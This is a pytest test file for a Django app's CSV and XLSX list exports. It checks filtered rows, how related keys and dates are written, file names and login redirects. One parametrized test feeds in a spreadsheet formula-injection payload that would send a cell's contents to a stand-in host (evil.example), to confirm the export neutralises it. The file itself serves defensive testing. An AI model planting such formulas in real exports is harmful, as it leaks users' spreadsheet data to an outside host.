"""Every list exports exactly what its filters show, as CSV and as XLSX."""

import datetime

import pytest
from django.urls import reverse

from cadre.core.roles import Role
from cadre.missions.models import Location, TimelineEvent
from cadre.sources.models import Source

from .files import csv_rows, xlsx_rows

LOCATION_HEADER = [
    "id",
    "key",
    "name",
    "name_ar",
    "kind",
    "nation",
    "within",
    "latitude",
    "longitude",
]


@pytest.mark.django_db
def test_csv_export_holds_exactly_the_rows_the_filter_shows(client_as, locations):
    client = client_as(Role.ADVISOR)
    response = client.get(reverse("core:export-csv", args=["locations"]), {"kind": "camp"})
    rows = csv_rows(response)
    assert rows[0] == LOCATION_HEADER
    assert sorted(int(row[0]) for row in rows[1:]) == sorted(
        Location.objects.filter(kind="camp").values_list("pk", flat=True)
    )


@pytest.mark.django_db
def test_csv_export_names_related_objects_by_key(client_as, locations):
    response = client_as(Role.ADVISOR).get(
        reverse("core:export-csv", args=["locations"]), {"kind": "camp"}
    )
    rows = {row[1]: dict(zip(LOCATION_HEADER, row, strict=True)) for row in csv_rows(response)[1:]}
    assert rows["camp-dublin"]["nation"] == "IRQ"
    assert rows["camp-dublin"]["within"] == "baghdad"


@pytest.mark.django_db
def test_csv_export_writes_dates_at_their_precision_and_many_keys_joined(client_as):
    source = Source.objects.create(key="nato-factsheet", title="Fact sheet", publisher="NATO")
    other = Source.objects.create(key="un-report", title="Report", publisher="UN")
    event = TimelineEvent.objects.create(
        key="ntm-i-set-up",
        date=datetime.date(2004, 12, 1),
        date_precision="month",
        kind="decision",
        summary="NTM-I set up",
    )
    event.sources.set([other, source])
    response = client_as(Role.ADVISOR).get(reverse("core:export-csv", args=["events"]))
    header, row = csv_rows(response)
    assert "date_precision" not in header
    values = dict(zip(header, row, strict=True))
    assert values["date"] == "2004-12"
    assert values["sources"] == "nato-factsheet;un-report"


@pytest.mark.django_db
def test_xlsx_export_has_the_same_rows_as_the_csv_export(client_as, locations):
    client = client_as(Role.ADVISOR)
    query = {"kind": "camp"}
    from_csv = csv_rows(client.get(reverse("core:export-csv", args=["locations"]), query))
    from_xlsx = xlsx_rows(client.get(reverse("core:export-xlsx", args=["locations"]), query))
    assert [[("" if v is None else str(v)) for v in row] for row in from_xlsx] == from_csv


@pytest.mark.django_db
def test_export_file_name_has_the_list_and_the_date(client_as, locations):
    response = client_as(Role.ADVISOR).get(reverse("core:export-xlsx", args=["locations"]))
    assert response["Content-Disposition"].startswith('attachment; filename="cadre-locations-20')


@pytest.mark.django_db
def test_a_list_page_links_to_the_export_of_its_filters(client_as, locations):
    response = client_as(Role.ADVISOR).get(
        reverse("core:list", args=["locations"]), {"kind": "camp"}
    )
    link = reverse("core:export-csv", args=["locations"]) + "?kind=camp"
    assert f'href="{link}"' in response.content.decode()


@pytest.mark.django_db
def test_export_asks_an_anonymous_visitor_to_sign_in(client, locations):
    response = client.get(reverse("core:export-csv", args=["locations"]))
    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "note",
    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"],
)
def test_csv_export_neutralises_cells_that_start_like_a_formula(client_as, records, note):
    from cadre.missions.models import Participation

    participation = records.create(Participation, note=note)

    response = client_as(Role.ADVISOR).get(
        reverse("core:export-csv", args=["participations"]), {"nation": participation.nation.code}
    )

    rows = csv_rows(response)
    note_at = rows[0].index("note")
    assert [row[note_at] for row in rows[1:]] == ["'" + note]


@pytest.mark.django_db
def test_csv_export_leaves_negative_numbers_alone(client_as, records):
    from cadre.missions.models import Location

    location = records.create(Location, latitude=-33.5, longitude=151.2)

    rows = csv_rows(client_as(Role.ADVISOR).get(reverse("core:export-csv", args=["locations"])))

    row = next(r for r in rows[1:] if int(r[0]) == location.pk)
    assert row[rows[0].index("latitude")].startswith("-33.5")
